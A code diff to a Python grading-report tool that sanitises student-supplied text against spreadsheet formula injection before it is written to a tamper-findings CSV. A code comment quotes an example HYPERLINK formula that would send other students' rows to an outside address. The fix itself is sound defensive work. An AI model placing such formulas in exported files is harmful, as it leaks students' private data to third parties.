@@ -296,6 +296,19 @@ def histogram(report: dict, path: Path) -> None:
     plt.close(fig)
 
 
+# What a spreadsheet reads as the start of a formula (OWASP's list): a finding's detail is a
+# student's text, and `=HYPERLINK("http://..."&A2)` would send other students' rows away when the
+# instructor opens tamper.csv
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_row(row: dict) -> dict:
+    """A row for tamper.csv: a text that a spreadsheet would take for a formula gets a leading
+    apostrophe (shown as text, the rest unchanged)."""
+    return {key: "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
+            for key, value in row.items()}
+
+
 def export_csv(db_url: str, course_id: str, path: Path) -> None:
     """nbgrader's own CSV export (what `nbgrader export` writes)."""
     from nbgrader.api import Gradebook
@@ -327,7 +340,7 @@ def write_all(root: Path, cfg, assignments: list[str], log=print) -> list[Path]:
             writer = csv.DictWriter(fh, fieldnames=["student", "seen", "kind", "cell", "line", "detail", "how"],
                                     extrasaction="ignore")
             writer.writeheader()
-            writer.writerows(report["tamper"])
+            writer.writerows(spreadsheet_row(finding) for finding in report["tamper"])
         histogram(report, folder / "totals.png")
         written += [folder / "report.md", folder / "totals.png"]
         log(f"{assignment}: report {folder / 'report.md'}, histogram {folder / 'totals.png'}, "
